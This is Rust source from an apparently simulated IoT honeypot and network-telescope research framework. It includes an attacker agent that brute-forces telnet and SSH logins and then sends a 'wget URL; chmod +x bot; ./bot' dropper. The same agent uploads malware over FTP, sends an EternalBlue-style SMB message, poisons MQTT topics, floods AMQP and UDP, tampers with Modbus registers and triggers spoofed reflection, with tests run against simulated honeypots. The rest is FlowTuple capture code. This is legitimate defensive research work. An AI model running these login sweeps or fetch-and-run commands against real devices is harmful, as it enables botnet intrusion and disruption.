                        ofh_wire::s7::function::READ_VAR,
                        &[],
                    );
                    ctx.tcp_send(conn, job.encode());
                }
            }
            Some(Running::Modbus { sent }) => {
                *sent = true;
                ctx.tcp_send(conn, ofh_wire::modbus::Frame::read_holding_registers(1, 0, 8).encode());
                ctx.tcp_send(conn, ofh_wire::modbus::Frame::write_single_register(2, 0, 0xDEAD).encode());
                // Invalid function code — 90% of observed Modbus traffic.
                ctx.tcp_send(
                    conn,
                    ofh_wire::modbus::Frame {
                        transaction_id: 3,
                        unit_id: 1,
                        function: 0x63,
                        data: vec![],
                    }
                    .encode(),
                );
            }
            // Telnet/SSH/FTP wait for the server banner first.
            _ => {}
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let text = String::from_utf8_lossy(data).into_owned();
        enum Act {
            None,
            Send(Vec<Vec<u8>>),
            Finish,
        }
        let mut act = Act::None;
        match self.running.get_mut(&conn) {
            Some(Running::TelnetLogin {
                credentials,
                dropper,
                next_cred,
                stage,
            }) => {
                let visible =
                    String::from_utf8_lossy(&ofh_wire::telnet::visible_text(data)).into_owned();
                match *stage {
                    LoginStage::SendUser => {
                        if *next_cred >= credentials.len() {
                            act = Act::Finish;
                        } else {
                            let user = credentials[*next_cred].0.clone();
                            *stage = LoginStage::SendPass;
                            act = Act::Send(vec![format!("{user}\n").into_bytes()]);
                        }
                    }
                    LoginStage::SendPass => {
                        let pass = credentials[*next_cred].1.clone();
                        *next_cred += 1;
                        *stage = LoginStage::Shell; // optimistic; verified on next data
                        act = Act::Send(vec![format!("{pass}\n").into_bytes()]);
                    }
                    LoginStage::Shell => {
                        let success = visible.contains('$')
                            || visible.contains('#')
                            || visible.contains("Welcome");
                        if success {
                            let mut sends = Vec::new();
                            if let Some((url, sample)) = dropper.take() {
                                sends.push(
                                    format!("wget {url}; chmod +x bot; ./bot\n").into_bytes(),
                                );
                                sends.push(sample.payload);
                            }
                            *stage = LoginStage::Dropped;
                            act = if sends.is_empty() {
                                Act::Finish
                            } else {
                                Act::Send(sends)
                            };
                            self.logins += 1;
                        } else if visible.contains("incorrect") || visible.contains("login:") {
                            *stage = LoginStage::SendUser;
                            // Re-enter the loop on the next banner chunk.
                            if *next_cred >= credentials.len() {
                                act = Act::Finish;
                            } else {
                                let user = credentials[*next_cred].0.clone();
                                *stage = LoginStage::SendPass;
                                act = Act::Send(vec![format!("{user}\n").into_bytes()]);
                            }
                        }
                    }
                    LoginStage::Dropped => act = Act::Finish,
                }
            }
            Some(Running::SshLogin {
                credentials,
                dropper,
                next_cred,
                identified,
            }) => {
                if !*identified && text.starts_with("SSH-") {
                    *identified = true;
                    act = Act::Send(vec![b"SSH-2.0-bot\n".to_vec()]);
                } else if text.contains("KEXINIT") || (!*identified && !text.is_empty()) {
                    *identified = true;
                    if *next_cred < credentials.len() {
                        let (u, p) = credentials[*next_cred].clone();
                        *next_cred += 1;
                        act = Act::Send(vec![format!("AUTH {u} {p}\n").into_bytes()]);
                    } else {
                        act = Act::Finish;
                    }
                } else if text.contains("OK") {
                    let mut sends = vec![b"uname -a\n".to_vec()];
                    if let Some((url, sample)) = dropper.take() {
                        sends.push(format!("curl -O {url}\n").into_bytes());
                        sends.push(sample.payload);
                    }
                    self.logins += 1;
                    act = Act::Send(sends);
                } else if text.contains("DENIED") {
                    if *next_cred < credentials.len() {
                        let (u, p) = credentials[*next_cred].clone();
                        *next_cred += 1;
                        act = Act::Send(vec![format!("AUTH {u} {p}\n").into_bytes()]);
                    } else {
                        act = Act::Finish;
                    }
                } else if text.contains("not found") || text.starts_with('#') {
                    act = Act::Finish;
                }
            }
            Some(Running::Mqtt {
                poison_topic,
                connected,
            }) => {
                if !*connected && text_is_connack(data) {
                    *connected = true;
                    let packet = match poison_topic.take() {
                        Some(topic) => Packet::Publish {
                            topic,
                            packet_id: None,
                            payload: b"poisoned".to_vec(),
                            qos: 0,
                            retain: true,
                        },
                        None => Packet::Subscribe {
                            packet_id: 1,
                            topics: vec![("$SYS/#".into(), 0)],
                        },
                    };
                    act = Act::Send(vec![packet.encode(), Packet::Disconnect.encode()]);
                } else if *connected {
                    act = Act::Finish;
                }
            }
            Some(Running::Amqp { frames, started }) => {
                if !*started {
                    *started = true;
                    let mut sends = Vec::new();
                    for _ in 0..*frames {
                        sends.push(
                            ofh_wire::amqp::Frame {
                                frame_type: ofh_wire::amqp::frame_type::BODY,
                                channel: 1,
                                payload: b"flood".to_vec(),
                            }
                            .encode(),
                        );
                    }
                    act = Act::Send(sends);
                } else {
                    act = Act::Finish;
                }
            }
            Some(Running::Xmpp { opened, authed }) => {
                if !*opened && text.contains("<stream:") {
                    *opened = true;
                    act = Act::Send(vec![
                        b"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>"
                            .to_vec(),
                    ]);
                } else if !*authed && text.contains("<success") {
                    *authed = true;
                    act = Act::Send(vec![b"<iq type='set'><light state='off'/></iq>".to_vec()]);
                } else if text.contains("<failure") || text.contains("<iq type='result'") {
                    act = Act::Finish;
                }
            }
            Some(Running::Http { remaining, path }) => {
                *remaining = remaining.saturating_sub(1);
                if *remaining == 0 {
                    act = Act::Finish;
                } else {
                    let req = http::Request::get(path);
                    act = Act::Send(vec![req.render()]);
                }
            }
            Some(Running::Ftp {
                credentials,
                sample,
                stage,
            }) => {
                match (*stage, text.get(..3)) {
                    (0, Some("220")) => {
                        *stage = 1;
                        act = Act::Send(vec![FtpCommand::new("USER", Some(&credentials.0))
                            .render()
                            .into_bytes()]);
                    }
                    (1, Some("331")) => {
                        *stage = 2;
                        act = Act::Send(vec![FtpCommand::new("PASS", Some(&credentials.1))
                            .render()
                            .into_bytes()]);
                    }
                    (2, Some("230")) => {
                        *stage = 3;
                        self.logins += 1;
                        act = Act::Send(vec![FtpCommand::new("STOR", Some("payload.bin"))
                            .render()
                            .into_bytes()]);
                    }
                    (3, Some("150")) => {
                        *stage = 4;
                        act = Act::Send(vec![sample.payload.clone()]);
                    }
                    (4, Some("226")) => act = Act::Finish,
                    (_, Some("530")) | (_, Some("502")) => act = Act::Finish,
                    _ => {}
                }
            }
            Some(Running::Smb { sample, negotiated }) => {
                if !*negotiated {
                    *negotiated = true;
                    let exploit = SmbMessage {
                        command: smb_cmd::TRANS2,
                        status: 0,
                        flags2: 0xC853,
                        mid: 64,
                        data: sample.payload.clone(),
                    };
                    act = Act::Send(vec![exploit.encode()]);
                } else {
                    act = Act::Finish;
                }
            }
            Some(Running::S7 { .. }) | Some(Running::Modbus { .. }) => {
                // Replies received; flood/tamper complete.
                act = Act::Finish;
            }
            _ => {}
        }
        match act {
            Act::None => {}
            Act::Send(msgs) => {
                for m in msgs {
                    ctx.tcp_send(conn, m);
                }
            }
            Act::Finish => self.finish(ctx, conn, true),
        }
    }

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }
}

fn text_is_connack(data: &[u8]) -> bool {
    matches!(
        Packet::decode(data),
        Ok((
            Packet::ConnAck {
                return_code: ofh_wire::mqtt::ConnectReturnCode::Accepted,
                ..
            },
            _
        ))
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_honeypots::{CowrieHoneypot, DionaeaHoneypot, EventKind, HosTaGeHoneypot, UPotHoneypot};
    use ofh_intel::{MalwareFamily, MalwareRegistry, MalwareSample};
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    fn run_against_cowrie(tasks: Vec<Task>) -> ofh_honeypots::EventLog {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 10);
        let hid = net.attach(haddr, Box::new(CowrieHoneypot::new()));
        net.attach(ip(16, 30, 0, 1), Box::new(AttackerAgent::new(tasks)));
        net.run_until(SimTime(600_000));
        let h = net.agent_downcast_mut::<CowrieHoneypot>(hid).unwrap();
        std::mem::take(&mut h.log)
    }

    #[test]
    fn telnet_bot_bruteforces_and_drops_mirai() {
        let sample = MalwareSample::synthesize(MalwareFamily::Mirai, 7);
        let log = run_against_cowrie(vec![Task {
            at: SimTime(1_000),
            dst: ip(16, 1, 0, 10),
            script: AttackScript::TelnetBruteForce {
                port: 23,
                credentials: vec![
                    ("root".into(), "wrong1".into()),
                    ("admin".into(), "admin".into()),
                ],
                dropper: Some(("http://16.30.0.1/mirai.arm7".into(), sample.clone())),
            },
        }]);
        // Credentials logged; the failed pair first.
        let attempts: Vec<bool> = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt { success, .. } => Some(*success),
                _ => None,
            })
            .collect();
        assert!(attempts.contains(&true), "attempts: {attempts:?}");
        // The dropped binary is identifiable as Mirai variant 7.
        let reg = MalwareRegistry::standard(16);
        let dropped = log.events.iter().find_map(|e| match &e.kind {
            EventKind::PayloadDrop { payload, .. } if !payload.is_empty() => Some(payload.clone()),
            _ => None,
        });
        let dropped = dropped.expect("binary captured");
        assert_eq!(reg.identify(&dropped).unwrap().variant, 7);
    }

    #[test]
    fn ssh_bot_auths_with_dictionary() {
        let log = run_against_cowrie(vec![Task {
            at: SimTime(1_000),
            dst: ip(16, 1, 0, 10),
            script: AttackScript::SshBruteForce {
                credentials: vec![
                    ("admin".into(), "bad".into()),
                    ("root".into(), "root".into()),
                ],
                dropper: None,
            },
        }]);
        let (fails, wins): (Vec<_>, Vec<_>) = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt { success, .. } => Some(*success),
                _ => None,
            })
            .partition(|s| !*s);
        assert_eq!(fails.len(), 1);
        assert_eq!(wins.len(), 1);
    }

    #[test]
    fn udp_flood_hits_upot() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 14);
        let hid = net.attach(haddr, Box::new(UPotHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 2),
            Box::new(AttackerAgent::new(vec![
                Task {
                    at: SimTime(500),
                    dst: haddr,
                    script: AttackScript::UpnpDiscovery,
                },
                Task {
                    at: SimTime(1_000),
                    dst: haddr,
                    script: AttackScript::UdpFlood {
                        port: 1900,
                        packets: 40,
                        payload_len: 64,
                    },
                },
            ])),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast::<UPotHoneypot>(hid).unwrap();
        let discoveries = h.log.events.iter().filter(|e| matches!(e.kind, EventKind::Discovery)).count();
        let floods = h.log.events.iter().filter(|e| matches!(e.kind, EventKind::Datagram { .. })).count();
        assert_eq!(discoveries, 1);
        assert_eq!(floods, 40);
    }

    #[test]
    fn ftp_upload_reaches_dionaea() {
        let sample = MalwareSample::synthesize(MalwareFamily::Lokibot, 1);
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 12);
        let hid = net.attach(haddr, Box::new(DionaeaHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 3),
            Box::new(AttackerAgent::new(vec![Task {
                at: SimTime(500),
                dst: haddr,
                script: AttackScript::FtpUploadMalware {
                    credentials: ("admin".into(), "admin".into()),
                    sample: sample.clone(),
                },
            }])),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast::<DionaeaHoneypot>(hid).unwrap();
        let dropped = h.log.events.iter().find_map(|e| match &e.kind {
            EventKind::PayloadDrop { payload, .. } if !payload.is_empty() => Some(payload.clone()),
            _ => None,
        });
        assert_eq!(dropped.unwrap(), sample.payload);
    }

    #[test]
    fn multiprotocol_scripts_against_hostage() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 11);
        let hid = net.attach(haddr, Box::new(HosTaGeHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 4),
            Box::new(AttackerAgent::new(vec![
                Task {
                    at: SimTime(100),
                    dst: haddr,
                    script: AttackScript::MqttAttack {
                        poison_topic: Some("arduino/config".into()),
                    },
                },
                Task {
                    at: SimTime(200),
                    dst: haddr,
                    script: AttackScript::CoapDiscovery,
                },
                Task {
                    at: SimTime(300),
                    dst: haddr,
                    script: AttackScript::AmqpFlood { frames: 5 },
                },
                Task {
                    at: SimTime(400),
                    dst: haddr,
                    script: AttackScript::HttpGet { path: "/login".into() },
                },
                Task {
                    at: SimTime(500),
                    dst: haddr,
                    script: AttackScript::SmbEternal {
                        sample: MalwareSample::synthesize(MalwareFamily::WannaCry, 0),
                    },
                },
            ])),
        );
        net.run_until(SimTime(300_000));
        let h = net.agent_downcast::<HosTaGeHoneypot>(hid).unwrap();
        let kinds: Vec<&EventKind> = h.log.events.iter().map(|e| &e.kind).collect();
        assert!(kinds.iter().any(|k| matches!(k, EventKind::DataWrite { target } if target == "arduino/config")));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::Discovery)));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::HttpRequest { .. })));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::ExploitSignature { .. })));
        let amqp_writes = h
            .log
            .events
            .iter()
            .filter(|e| e.protocol == ofh_wire::Protocol::Amqp && matches!(e.kind, EventKind::DataWrite { .. }))
            .count();
        assert_eq!(amqp_writes, 5);
    }

    #[test]
    fn reflection_trigger_is_spoofed() {
        use ofh_devices::endpoints::UpnpDevice;
        use ofh_devices::Misconfig;
        use ofh_wire::ssdp::DeviceDescription;

        struct Victim {
            hits: u64,
        }
        impl Agent for Victim {
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, _d: &Payload) {
                self.hits += 1;
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let reflector = ip(16, 40, 0, 1);
        net.attach(
            reflector,
            Box::new(UpnpDevice::new(
                Some(Misconfig::UpnpReflection),
                "MiniUPnPd/1.4",
                DeviceDescription::default(),
            )),
        );
        let vid = net.attach(ip(16, 40, 0, 2), Box::new(Victim { hits: 0 }));
        net.attach(
            ip(16, 30, 0, 5),
            Box::new(AttackerAgent::new(vec![Task {
                at: SimTime(100),
                dst: reflector,
                script: AttackScript::ReflectionTrigger {
                    victim: SockAddr::new(ip(16, 40, 0, 2), 1900),
                    packets: 10,
                },
            }])),
        );
        net.run_until(SimTime(60_000));
        // All reflected responses landed on the victim, not the attacker.
        assert_eq!(net.agent_downcast::<Victim>(vid).unwrap().hits, 10);
    }
}
