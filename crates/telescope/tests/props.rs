//! Property tests for the telescope: FlowTuple derivation and minute-file
//! binning over arbitrary observation streams.

use ofh_intel::GeoDb;
use ofh_net::sim::FlowTap;
use ofh_net::{FlowKind, FlowObservation, SimTime, Transport};
use ofh_telescope::{FlowTuple, Telescope};
use proptest::prelude::*;
use std::net::Ipv4Addr;

fn arb_observation() -> impl Strategy<Value = FlowObservation> {
    (
        0u64..10_000_000_000,
        any::<u32>(),
        any::<u32>(),
        any::<u16>(),
        any::<u16>(),
        any::<bool>(),
        any::<u8>(),
        any::<u8>(),
        any::<u16>(),
        any::<u16>(),
        any::<bool>(),
    )
        .prop_map(
            |(t, src, dst, sp, dp, tcp, ttl, flags, window, len, spoofed)| FlowObservation {
                time: SimTime(t),
                src: Ipv4Addr::from(src),
                dst: Ipv4Addr::from(dst),
                src_port: sp,
                dst_port: dp,
                transport: if tcp { Transport::Tcp } else { Transport::Udp },
                kind: if tcp { FlowKind::TcpSyn } else { FlowKind::UdpDatagram },
                ttl,
                tcp_flags: if tcp { flags | FlowObservation::SYN } else { 0 },
                tcp_window: if tcp { window } else { 0 },
                ip_len: len,
                payload: Default::default(),
                spoofed,
            },
        )
}

proptest! {
    /// Every observation lands in exactly one minute file; totals add up and
    /// records appear in time order within the full iteration.
    #[test]
    fn binning_partitions_records(obs in prop::collection::vec(arb_observation(), 0..200)) {
        let mut t = Telescope::new(GeoDb::new());
        for o in &obs {
            t.observe(o);
        }
        prop_assert_eq!(t.total_records() as usize, obs.len());
        let mut iterated = 0usize;
        let mut last_minute = 0u64;
        for rec in t.records() {
            let minute = rec.time.minute_index();
            prop_assert!(minute >= last_minute, "records out of minute order");
            last_minute = minute;
            iterated += 1;
        }
        prop_assert_eq!(iterated, obs.len());
    }

    /// FlowTuple derivation is faithful: protocol numbers, SYN-only fields,
    /// masscan flag.
    #[test]
    fn flowtuple_faithful(o in arb_observation()) {
        let ft = FlowTuple::from_observation(&o, "US", None);
        prop_assert_eq!(ft.protocol, o.transport.protocol_number());
        prop_assert_eq!(ft.src_ip, o.src);
        prop_assert_eq!(ft.is_spoofed, o.spoofed);
        match o.transport {
            Transport::Udp => {
                prop_assert_eq!(ft.tcp_syn_window, 0);
                prop_assert!(!ft.is_masscan);
            }
            Transport::Tcp => {
                prop_assert_eq!(ft.tcp_syn_window, o.tcp_window);
                prop_assert_eq!(ft.is_masscan, o.tcp_window == 1024);
            }
        }
        // JSON roundtrip.
        let json = serde_json::to_string(&ft).unwrap();
        let back: FlowTuple = serde_json::from_str(&json).unwrap();
        prop_assert_eq!(back, ft);
    }
}
