//! The telescope tap: captures observations into minute-binned FlowTuple
//! files.

use std::collections::BTreeMap;

use ofh_intel::GeoDb;
use ofh_net::sim::FlowTap;
use ofh_net::FlowObservation;

use crate::flowtuple::FlowTuple;

/// The telescope: attach as a [`FlowTap`] over the universe's dark space.
///
/// Records are grouped into per-minute files ("the files are stored on a
/// minute basis, and hence there are 1,440 files generated per day", §3.4).
pub struct Telescope {
    /// minute index -> records in that minute.
    minutes: BTreeMap<u64, Vec<FlowTuple>>,
    geo: GeoDb,
    total: u64,
}

impl Telescope {
    pub fn new(geo: GeoDb) -> Telescope {
        Telescope {
            minutes: BTreeMap::new(),
            geo,
            total: 0,
        }
    }

    /// Total records captured.
    pub fn total_records(&self) -> u64 {
        self.total
    }

    /// Number of non-empty minute files.
    pub fn minute_file_count(&self) -> usize {
        self.minutes.len()
    }

    /// Records of one minute file.
    pub fn minute_file(&self, minute: u64) -> &[FlowTuple] {
        self.minutes.get(&minute).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Iterate all records in time order.
    pub fn records(&self) -> impl Iterator<Item = &FlowTuple> {
        self.minutes.values().flatten()
    }

    /// Minute files in a half-open day range [from_day, to_day).
    pub fn records_in_days(&self, from_day: u64, to_day: u64) -> impl Iterator<Item = &FlowTuple> {
        let from = from_day * 1_440;
        let to = to_day * 1_440;
        self.minutes
            .range(from..to)
            .flat_map(|(_, recs)| recs.iter())
    }

    /// Fold another telescope's capture into this one (the sharded engine
    /// merges per-shard telescopes). Records land in their minute files and
    /// each touched minute is re-sorted into a canonical order, so the
    /// merged capture is independent of how the records were split across
    /// shards.
    pub fn absorb(&mut self, other: Telescope) {
        for (minute, mut recs) in other.minutes {
            self.total += recs.len() as u64;
            let file = self.minutes.entry(minute).or_default();
            file.append(&mut recs);
            file.sort_by(|a, b| {
                (a.time, a.src_ip, a.dst_ip, a.src_port, a.dst_port, a.protocol)
                    .cmp(&(b.time, b.src_ip, b.dst_ip, b.src_port, b.dst_port, b.protocol))
            });
        }
    }

    /// Export one minute file as JSON lines (CAIDA's FlowTuple v4 is JSON).
    pub fn minute_file_jsonl(&self, minute: u64) -> String {
        let mut out = String::new();
        for r in self.minute_file(minute) {
            out.push_str(&serde_json::to_string(r).expect("flowtuple serializes"));
            out.push('\n');
        }
        out
    }
}

impl FlowTap for Telescope {
    fn observe(&mut self, obs: &FlowObservation) {
        let transport = match obs.transport {
            ofh_net::Transport::Tcp => "tcp",
            ofh_net::Transport::Udp => "udp",
        };
        ofh_obs::count_l("telescope.flow", transport, 1);
        ofh_obs::observe("telescope.ip_len", obs.ip_len as u64);
        ofh_obs::span(
            "telescope.flow",
            transport,
            obs.time.0,
            obs.time.0,
            u32::from(obs.src),
            u32::from(obs.dst),
            obs.dst_port,
            obs.ip_len as u32,
        );
        let country = self.geo.country_of(obs.src).code().to_string();
        let asn = self.geo.asn_of(obs.src);
        let ft = FlowTuple::from_observation(obs, &country, asn);
        self.minutes.entry(obs.time.minute_index()).or_default().push(ft);
        self.total += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, FlowKind, SimTime, Transport};

    fn obs_at(t: u64, dst_port: u16) -> FlowObservation {
        FlowObservation {
            time: SimTime(t),
            src: ip(1, 2, 3, 4),
            dst: ip(16, 0, 0, 9),
            src_port: 40_000,
            dst_port,
            transport: Transport::Tcp,
            kind: FlowKind::TcpSyn,
            ttl: 40,
            tcp_flags: FlowObservation::SYN,
            tcp_window: 65_535,
            ip_len: 60,
            payload: Default::default(),
            spoofed: false,
        }
    }

    #[test]
    fn minute_binning() {
        let mut t = Telescope::new(GeoDb::new());
        t.observe(&obs_at(10_000, 23)); // minute 0
        t.observe(&obs_at(59_999, 23)); // minute 0
        t.observe(&obs_at(60_000, 1883)); // minute 1
        t.observe(&obs_at(86_400_000 + 5, 5683)); // day 1, minute 1440
        assert_eq!(t.total_records(), 4);
        assert_eq!(t.minute_file_count(), 3);
        assert_eq!(t.minute_file(0).len(), 2);
        assert_eq!(t.minute_file(1).len(), 1);
        assert_eq!(t.minute_file(1_440).len(), 1);
        assert_eq!(t.records_in_days(0, 1).count(), 3);
        assert_eq!(t.records_in_days(1, 2).count(), 1);
    }

    #[test]
    fn jsonl_export() {
        let mut t = Telescope::new(GeoDb::new());
        t.observe(&obs_at(0, 23));
        let jsonl = t.minute_file_jsonl(0);
        assert_eq!(jsonl.lines().count(), 1);
        assert!(jsonl.contains("\"dst_port\":23"));
    }

    #[test]
    fn absorb_merges_minutes_canonically() {
        // Split one observation stream across two telescopes, merge both
        // ways: identical captures.
        let all = [obs_at(10_000, 23), obs_at(20_000, 1883), obs_at(70_000, 23)];
        let split = |idx: &[usize]| {
            let mut t = Telescope::new(GeoDb::new());
            for &i in idx {
                t.observe(&all[i]);
            }
            t
        };
        let mut a = split(&[0, 2]);
        a.absorb(split(&[1]));
        let mut b = split(&[1]);
        b.absorb(split(&[0, 2]));
        assert_eq!(a.total_records(), 3);
        assert_eq!(a.minute_file_count(), 2);
        assert_eq!(a.minute_file_jsonl(0), b.minute_file_jsonl(0));
        assert_eq!(a.minute_file_jsonl(1), b.minute_file_jsonl(1));
    }

    #[test]
    fn geo_metadata_applied() {
        let mut geo = GeoDb::new();
        geo.allocate_slash16(ip(1, 2, 0, 0), ofh_intel::Country::Germany, 3320);
        let mut t = Telescope::new(geo);
        t.observe(&obs_at(0, 23));
        let rec = &t.minute_file(0)[0];
        assert_eq!(rec.country, "DE");
        assert_eq!(rec.asn, Some(3320));
    }
}
