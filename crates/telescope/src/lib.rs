//! # ofh-telescope — the /8 network telescope
//!
//! Models the CAIDA UCSD network telescope of §3.4: a routed block of
//! address space carrying no legitimate traffic, passively recording every
//! unsolicited packet. The simulated telescope covers the universe's dark
//! space — exactly **1/256 of the simulated Internet**, matching the real
//! telescope's /8 = 1/256 of IPv4.
//!
//! Captured traffic is stored as **FlowTuple** records with the field set
//! the paper enumerates (source/destination, ports, timestamp, protocol,
//! TTL, TCP flags, IP length, SYN length, SYN window, packet count, country
//! code, ASN, `is_spoofed`, `is_masscan`), binned into per-minute files
//! (1,440 per day, §3.4).
//!
//! `is_masscan` is *derived from packet features* (masscan's fixed SYN
//! window of 1024), mirroring how CAIDA computes the flag from packet
//! quirks. `is_spoofed` is taken from the sender's ground-truth spoofing
//! flag, standing in for CAIDA's spoofed-source heuristics.

pub mod aggregate;
pub mod flowtuple;
pub mod telescope;

pub use aggregate::{DailyProtocolStats, TelescopeSummary};
pub use flowtuple::FlowTuple;
pub use telescope::Telescope;
