//! The FlowTuple record format.

use std::net::Ipv4Addr;

use ofh_net::{FlowObservation, SimTime, Transport};
use serde::{Deserialize, Serialize};

/// Masscan's characteristic SYN window (how `is_masscan` is derived).
pub const MASSCAN_SYN_WINDOW: u16 = 1024;

/// One FlowTuple record, field-for-field what §3.4 lists.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlowTuple {
    pub time: SimTime,
    pub src_ip: Ipv4Addr,
    pub dst_ip: Ipv4Addr,
    pub src_port: u16,
    pub dst_port: u16,
    /// IANA protocol number (6 = TCP, 17 = UDP).
    pub protocol: u8,
    pub ttl: u8,
    pub tcp_flags: u8,
    pub ip_len: u16,
    /// TCP-SYN packet length (0 for non-SYN/UDP).
    pub tcp_syn_len: u16,
    /// TCP-SYN window (0 for non-SYN/UDP).
    pub tcp_syn_window: u16,
    /// Packets aggregated into this flow record.
    pub packet_cnt: u32,
    /// Source country code (from the geolocation database).
    pub country: String,
    /// Source ASN, when known.
    pub asn: Option<u32>,
    pub is_spoofed: bool,
    pub is_masscan: bool,
}

impl FlowTuple {
    /// Build a record from a raw observation plus geo metadata.
    pub fn from_observation(obs: &FlowObservation, country: &str, asn: Option<u32>) -> FlowTuple {
        let is_syn = obs.transport == Transport::Tcp && obs.tcp_flags & FlowObservation::SYN != 0;
        FlowTuple {
            time: obs.time,
            src_ip: obs.src,
            dst_ip: obs.dst,
            src_port: obs.src_port,
            dst_port: obs.dst_port,
            protocol: obs.transport.protocol_number(),
            ttl: obs.ttl,
            tcp_flags: obs.tcp_flags,
            ip_len: obs.ip_len,
            tcp_syn_len: if is_syn { obs.ip_len } else { 0 },
            tcp_syn_window: if is_syn { obs.tcp_window } else { 0 },
            packet_cnt: 1,
            country: country.to_string(),
            asn,
            is_spoofed: obs.spoofed,
            is_masscan: is_syn && obs.tcp_window == MASSCAN_SYN_WINDOW,
        }
    }

    /// The studied protocol this flow targets, if any (by destination port).
    pub fn target_protocol(&self) -> Option<ofh_wire::Protocol> {
        ofh_wire::Protocol::from_port(self.dst_port)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, FlowKind};

    fn obs(window: u16, flags: u8, transport: Transport) -> FlowObservation {
        FlowObservation {
            time: SimTime(77),
            src: ip(1, 2, 3, 4),
            dst: ip(16, 0, 1, 2),
            src_port: 45000,
            dst_port: 23,
            transport,
            kind: FlowKind::TcpSyn,
            ttl: 44,
            tcp_flags: flags,
            tcp_window: window,
            ip_len: 60,
            payload: Default::default(),
            spoofed: false,
        }
    }

    #[test]
    fn masscan_detected_from_window() {
        let ft = FlowTuple::from_observation(
            &obs(MASSCAN_SYN_WINDOW, FlowObservation::SYN, Transport::Tcp),
            "US",
            Some(64500),
        );
        assert!(ft.is_masscan);
        assert_eq!(ft.tcp_syn_window, 1024);
        let zmap = FlowTuple::from_observation(
            &obs(65_535, FlowObservation::SYN, Transport::Tcp),
            "US",
            None,
        );
        assert!(!zmap.is_masscan);
    }

    #[test]
    fn udp_has_no_syn_fields() {
        let ft = FlowTuple::from_observation(&obs(0, 0, Transport::Udp), "DE", None);
        assert_eq!(ft.protocol, 17);
        assert_eq!(ft.tcp_syn_len, 0);
        assert_eq!(ft.tcp_syn_window, 0);
        assert!(!ft.is_masscan);
    }

    #[test]
    fn target_protocol_by_port() {
        let ft = FlowTuple::from_observation(
            &obs(65_535, FlowObservation::SYN, Transport::Tcp),
            "US",
            None,
        );
        assert_eq!(ft.target_protocol(), Some(ofh_wire::Protocol::Telnet));
    }

    #[test]
    fn serializes() {
        let ft = FlowTuple::from_observation(
            &obs(65_535, FlowObservation::SYN, Transport::Tcp),
            "US",
            Some(3320),
        );
        let json = serde_json::to_string(&ft).unwrap();
        let back: FlowTuple = serde_json::from_str(&json).unwrap();
        assert_eq!(back, ft);
    }
}
