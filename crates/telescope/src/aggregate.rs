//! Telescope aggregation — the computations behind Table 8.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_wire::Protocol;
use serde::Serialize;

use crate::telescope::Telescope;

/// Per-protocol aggregate over a day range.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct DailyProtocolStats {
    pub protocol: Protocol,
    /// Average records per day towards this protocol.
    pub daily_avg_count: f64,
    /// Unique source IPs over the whole range.
    pub unique_sources: usize,
    /// Sources in the known-scanning-service set.
    pub scanning_service_sources: usize,
    /// Remaining (unknown/suspicious) sources.
    pub unknown_sources: usize,
}

/// The Table 8 summary.
#[derive(Debug, Clone, Default, Serialize)]
pub struct TelescopeSummary {
    pub rows: Vec<DailyProtocolStats>,
    pub total_daily_avg: f64,
    pub total_unique_sources: usize,
    /// Calendar length of the aggregation window, in days.
    pub span_days: f64,
    /// Days the telescope was actually listening (span minus scheduled
    /// outages) — the denominator of every daily average.
    pub effective_days: f64,
    /// Distinct wall-clock hours with at least one studied-protocol record:
    /// the observed (as opposed to scheduled) coverage of the window.
    pub covered_hours: u64,
}

impl TelescopeSummary {
    /// Aggregate `telescope` traffic for the six studied protocols over
    /// days `[from_day, to_day)`, splitting sources against the known
    /// scanning-service address set.
    pub fn compute(
        telescope: &Telescope,
        from_day: u64,
        to_day: u64,
        known_scanners: &BTreeSet<Ipv4Addr>,
    ) -> TelescopeSummary {
        Self::compute_gap_aware(telescope, from_day, to_day, known_scanners, 0)
    }

    /// Gap-tolerant aggregation: like [`compute`](Self::compute), but daily
    /// averages divide by the *effective* listening time — the calendar span
    /// minus `outage_minutes` of scheduled collector downtime. Averaging an
    /// outage-riddled capture over the full span would silently underestimate
    /// every rate; discounting dead time keeps Table 8 comparable between
    /// fault-free and degraded runs.
    pub fn compute_gap_aware(
        telescope: &Telescope,
        from_day: u64,
        to_day: u64,
        known_scanners: &BTreeSet<Ipv4Addr>,
        outage_minutes: u64,
    ) -> TelescopeSummary {
        let span_days = (to_day - from_day).max(1) as f64;
        // Never divide by less than one hour, even if the schedule claims the
        // whole window was dark.
        let effective_days = (span_days - outage_minutes as f64 / 1_440.0).max(1.0 / 24.0);
